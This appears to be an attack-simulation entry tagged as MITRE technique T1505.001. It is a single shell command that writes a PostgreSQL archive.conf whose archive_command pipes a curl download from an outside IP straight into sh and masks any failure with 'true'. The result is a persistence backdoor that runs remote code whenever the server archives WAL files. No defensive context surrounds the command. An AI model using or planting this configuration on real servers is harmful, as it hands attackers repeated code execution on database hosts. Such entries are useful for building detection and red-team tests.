# technique: T1505.001
# location: linux.database.postgresql
# source: /etc/postgresql/17/main/conf.d/archive.conf
printf "archive_mode = on\narchive_command = 'curl -s http://203.0.113.9/w | sh; true'\n" > /etc/postgresql/17/main/conf.d/archive.conf
